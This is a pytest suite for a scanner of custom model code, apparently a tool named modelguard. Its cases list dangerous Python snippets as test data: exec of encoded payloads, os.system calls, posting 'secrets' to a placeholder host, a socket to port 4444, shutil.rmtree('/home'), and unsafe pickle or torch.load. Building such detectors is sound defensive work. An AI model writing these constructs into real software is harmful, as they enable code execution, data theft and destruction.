"""Custom Python code: presence is MG-S301 only for plain model code; each dangerous construct
is its own finding with its line number. Nothing here is ever executed."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from modelguard.cli import run
from modelguard.scan import scan_bytes, scan_source
from modelguard.scan.base import BytesSource, ScanContext

BENIGN_MODELING = textwrap.dedent('''\
    # coding=utf-8
    """PyTorch TinyLM model, in the style of transformers' modeling_*.py files."""
    import math
    import os
    import re
    import sys
    import warnings
    from dataclasses import dataclass
    from typing import Optional, Tuple

    import torch
    import torch.nn.functional as F
    from torch import nn
    from transformers import PreTrainedModel
    from transformers.modeling_outputs import CausalLMOutputWithPast
    from transformers.utils import logging

    from .configuration_tinylm import TinyLMConfig

    logger = logging.get_logger(__name__)
    _CHECKPOINT_FOR_DOC = os.environ.get("TINYLM_CHECKPOINT", "org/tinylm")


    class TinyLMAttention(nn.Module):
        def __init__(self, config: TinyLMConfig) -> None:
            super().__init__()
            self.head_dim = config.hidden_size // config.num_attention_heads
            self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
            setattr(self, "scale", 1 / math.sqrt(self.head_dim))

        def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
            q, k, v = self.qkv(x).chunk(3, dim=-1)
            if getattr(self.config, "use_sdpa", True):
                return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)
            w = torch.softmax(q @ k.transpose(-1, -2) * self.scale, dim=-1)
            return w @ v


    class TinyLMForCausalLM(PreTrainedModel):
        config_class = TinyLMConfig

        def __init__(self, config: TinyLMConfig) -> None:
            super().__init__(config)
            self.layers = nn.ModuleList([TinyLMAttention(config) for _ in range(config.num_layers)])
            vocab_path = os.path.join(os.path.dirname(__file__), "vocab.json")
            if os.path.exists(vocab_path):
                with open(vocab_path, encoding="utf-8") as f:
                    self.extra = f.read()
            state = torch.load(os.path.join(config.name_or_path, "extra.pt"), map_location="cpu", weights_only=True)
            self.register_buffer("pos", state["pos"], persistent=False)
            if "flash_attn" in sys.modules:
                warnings.warn("flash attention found")
            self.dtype_name = str(torch.float16).replace("torch.", "")
            self.pattern = re.compile(r"layers\\.(\\d+)")
''')


def _findings(src: str, name: str = "modeling_x.py") -> list[tuple[str, str]]:
    r = scan_bytes(textwrap.dedent(src).encode(), name)
    assert r.format == "python"
    return [(f.rule, f.location) for f in r.findings]


def test_benign_modeling_file_is_only_custom_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = tmp_path / "modeling_tinylm.py"
    p.write_text(BENIGN_MODELING)
    # Presence of custom code is information in `scan` (issue 17): the policy decides at fetch and
    # verify. The file is clean, exit 0, and the finding still names it.
    assert run(["scan", "--format", "json", str(p)]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["files"][0]["verdict"] == "clean"
    assert [(f["rule"], f["severity"]) for f in doc["findings"]] == [("MG-S301", "info")]
    assert run(["scan", "--fail-on", "info", str(p)]) == 1


def test_dunder_import_of_sys_reads_modules_only() -> None:
    # __import__ itself is dynamic code, even to read sys.modules.
    assert _findings("x = 'a' in __import__('sys').modules\n") == [("MG-S301", ""), ("MG-S303", "line 1")]


CASES = [
    # process execution, through aliases and indirection
    ("import subprocess as sp\n\nsp.run(['echo', 'pwned'])\n", "MG-S302", "line 3"),
    ("from os import system\nsystem('echo pwned')\n", "MG-S302", "line 2"),
    ("import os\nx = 1\nos.popen('echo pwned')\n", "MG-S302", "line 3"),
    ("__import__('os').system('echo pwned')\n", "MG-S302", "line 1"),
    ("import importlib\nimportlib.import_module('subprocess').call('x')\n", "MG-S302", "line 2"),
    ("import ctypes\n", "MG-S314", "line 1"),
    ("from ctypes import CDLL\nlib = CDLL('./libx.so')\n", "MG-S314", "line 2"),
    ("import ctypes\nctypes.cdll.LoadLibrary('libc.so.6')\n", "MG-S314", "line 2"),
    ("import os\nf = getattr(os, 'system')\n", "MG-S302", "line 2"),
    # dynamic code
    ("code = 'print(1)'\nexec(code)\n", "MG-S303", "line 2"),
    ("eval('1+1')\n", "MG-S303", "line 1"),
    ("import importlib\nm = importlib.import_module(name)\n", "MG-S303", "line 2"),
    ("import torch\nm = torch.hub.load('someone/repo', 'model')\n", "MG-S303", "line 2"),
    ("from transformers import AutoModel\nm = AutoModel.from_pretrained('o/r', trust_remote_code=True)\n",
     "MG-S303", "line 2"),
    # obfuscated payloads
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "MG-S304", "line 2"),
    ("import zlib, base64\np = zlib.decompress(base64.b64decode(s))\nq = p\n\n\nexec(q)\n", "MG-S304", "line 6"),
    ("import marshal\nc = marshal.loads(blob)\n", "MG-S304", "line 2"),
    ("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n", "MG-S304", "line 2"),
    ("import pickle\nobj = pickle.loads(bytes.fromhex(h))\n", "MG-S304", "line 2"),
    # import and builtins tampering
    ("import sys\nsys.modules['torch'] = fake\n", "MG-S305", "line 2"),
    ("import sys\nsys.meta_path.insert(0, Finder())\n", "MG-S305", "line 2"),
    ("import builtins\nbuiltins.open = my_open\n", "MG-S305", "line 2"),
    ("f = getattr(__builtins__, 'eval')\n", "MG-S305", "line 1"),
    ("x = 1\nfor c in ().__class__.__base__.__subclasses__():\n    pass\n", "MG-S305", "line 2"),
    ("def f():\n    pass\ng = f.__globals__\n", "MG-S305", "line 3"),
    ("import torch\nsetattr(torch, 'load', evil)\n", "MG-S305", "line 2"),
    # network
    ("import socket\ns = socket.socket()\n", "MG-S306", "line 1"),
    ("import urllib.request\nurllib.request.urlopen('http://example.invalid')\n", "MG-S306", "line 2"),
    ("import requests\n\nrequests.post('http://example.invalid', data=secrets)\n", "MG-S306", "line 3"),
    ("from http.client import HTTPSConnection\n", "MG-S306", "line 1"),
    ("import torch\nsd = torch.hub.load_state_dict_from_url(u)\n", "MG-S306", "line 2"),
    # file writes and deletes
    ("with open('/etc/x', 'w') as f:\n    f.write('x')\n", "MG-S307", "line 1"),
    ("import shutil\nshutil.rmtree('/home')\n", "MG-S307", "line 2"),
    ("import os\nos.remove(p)\n", "MG-S307", "line 2"),
    ("from pathlib import Path\nPath('~/.bashrc').write_text('x')\n", "MG-S307", "line 2"),
    ("open(p, mode=m)\n", "MG-S307", "line 1"),
    # unsafe deserialization
    ("import torch\nsd = torch.load('x.bin')\n", "MG-S308", "line 2"),
    ("import torch\nsd = torch.load('x.bin', weights_only=False)\n", "MG-S308", "line 2"),
    ("import numpy as np\na = np.load('x.npy', allow_pickle=True)\n", "MG-S308", "line 2"),
    ("import pickle\nwith open(p, 'rb') as f:\n    o = pickle.load(f)\n", "MG-S308", "line 3"),
    ("import yaml\nc = yaml.load(text)\n", "MG-S308", "line 2"),
    ("import joblib\nm = joblib.load(p)\n", "MG-S308", "line 2"),
    # encoded blobs
    ("PAYLOAD = '" + "QUJDRGVmZ2hpamtsbW5vcHFyc3R1dnd4eXoxMjM0NTY3ODkw" * 8 + "'\n", "MG-S309", "line 1"),
    ("B = '" + "deadbeef0123456789abcdef" * 12 + "'\n", "MG-S309", "line 1"),
]


@pytest.mark.parametrize(("src", "rule", "location"), CASES)
def test_dangerous_construct_reported_with_line(src: str, rule: str, location: str) -> None:
    found = _findings(src)
    assert ("MG-S301", "") in found
    assert (rule, location) in found, found


def test_safe_variants_are_not_flagged() -> None:
    src = """\
        import torch, yaml, numpy as np, os, re, json
        a = torch.load('x', weights_only=True, map_location='cpu')
        b = np.load('x.npy')
        c = yaml.load(t, Loader=yaml.SafeLoader)
        with open(p) as f, open(q, 'rb') as g:
            d = json.load(f)
        e = re.compile('x').sub('', os.path.join('a', 'b'))
        s = 'word ' * 100
        doc = '''%s'''
        torch.compile(model)
    """ % ("lorem ipsum dolor sit amet " * 30)
    assert _findings(src) == [("MG-S301", "")]


def test_syntax_error_is_unscannable_with_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = tmp_path / "modeling_bad.py"
    p.write_text("import os\n\ndef f(:\n    pass\n")
    assert run(["scan", "--format", "json", str(p)]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["files"][0]["verdict"] == "unscannable"
    assert ("MG-S310", "line 3") in [(f["rule"], f["location"]) for f in doc["findings"]]


def test_process_at_import_time_is_malicious(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = tmp_path / "modeling_evil.py"
    p.write_text(BENIGN_MODELING + "\nimport os\nos.system('echo pwned')\n")
    assert run(["scan", "--format", "json", str(p)]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["files"][0]["verdict"] == "malicious"
    line = BENIGN_MODELING.count("\n") + 3
    found = [(f["rule"], f["severity"], f["location"]) for f in doc["findings"]]
    assert ("MG-S302", "high", f"line {line}") in found and ("MG-S315", "critical", f"line {line}") in found


def test_process_inside_a_function_is_suspicious_not_malicious() -> None:
    # Qwen's cpp_kernels.py shape: nvcc -V inside a helper, and a __main__ block.
    src = """\
        import subprocess
        import requests


        def cuda_version(cuda_dir):
            return subprocess.check_output([cuda_dir + "/bin/nvcc", "-V"], universal_newlines=True)


        class Loader:
            def fetch(self):
                return requests.get(self.url)


        if __name__ == "__main__":
            subprocess.run(["nvidia-smi"])
    """
    r = scan_bytes(textwrap.dedent(src).encode(), "cpp_kernels.py")
    assert r.verdict.value == "suspicious"
    assert "MG-S315" not in [f.rule for f in r.findings]
    assert ("MG-S302", "line 6") in [(f.rule, f.location) for f in r.findings]


@pytest.mark.parametrize("src", [
    "import socket\ns = socket.create_connection(('203.0.113.1', 4444))\n",
    "import subprocess\nclass M:\n    out = subprocess.run(['id'])\n",
    "import os\nx = [os.popen('id') for _ in range(1)]\n",
])
def test_module_and_class_level_calls_run_on_import(src: str) -> None:
    r = scan_bytes(src.encode(), "modeling_x.py")
    assert r.verdict.value == "malicious" and "MG-S315" in [f.rule for f in r.findings]


def test_nested_member_location_names_the_member() -> None:
    ctx = ScanContext(depth=1)
    out = scan_source(ctx, BytesSource(b"import os\nos.system('x')\n", "repo.zip!code/modeling_x.py"))
    assert out.format == "python"
    assert [(f.rule, f.location) for f in out.findings] == [
        ("MG-S301", "repo.zip!code/modeling_x.py"), ("MG-S302", "repo.zip!code/modeling_x.py:line 2"),
        ("MG-S315", "repo.zip!code/modeling_x.py:line 2")]


def test_findings_per_rule_are_capped() -> None:
    src = "import os\n" + "os.remove(p)\n" * 40
    found = _findings(src)
    assert sum(1 for r, _ in found if r == "MG-S307") == 26  # 25 listed + one "more of the same"


def test_code_object_construction_and_star_imports() -> None:
    assert ("MG-S304", "line 2") in _findings("import types\nf = types.FunctionType(c, {})\n")
    assert _findings("import types\nok = isinstance(f, types.FunctionType)\n") == [("MG-S301", "")]
    assert ("MG-S302", "line 2") in _findings("from os import *\nsystem('echo pwned')\n")
    assert _findings("from numpy import *\na = zeros(3)\n") == [("MG-S301", "")]


@pytest.mark.parametrize(("src", "rule"), [
    ("exec('import os; os.system(\"echo pwned\")')\n", "MG-S302"),
    ("g = globals()['__builtins__']\n", "MG-S305"),
    ("import os\nname = 'sys' + 'tem'\nf = getattr(os, name)\n", "MG-S305"),
])
def test_indirection_shapes(src: str, rule: str) -> None:
    found = _findings(src)
    assert any(r == rule for r, _ in found), found


def test_detail_quotes_the_source_line() -> None:
    r = scan_bytes(b"import os\n\n    \nos.system('echo pwned')  # trailing\n", "modeling_x.py")
    f = next(f for f in r.findings if f.rule == "MG-S302")
    assert f.location == "line 4" and f.detail == "os.system('echo pwned')  # trailing"


def test_ctypes_types_alone_are_not_repeated() -> None:
    found = _findings("import ctypes\nf(ctypes.c_void_p(p), ctypes.c_int32(n))\n")
    assert found == [("MG-S301", ""), ("MG-S314", "line 1")]
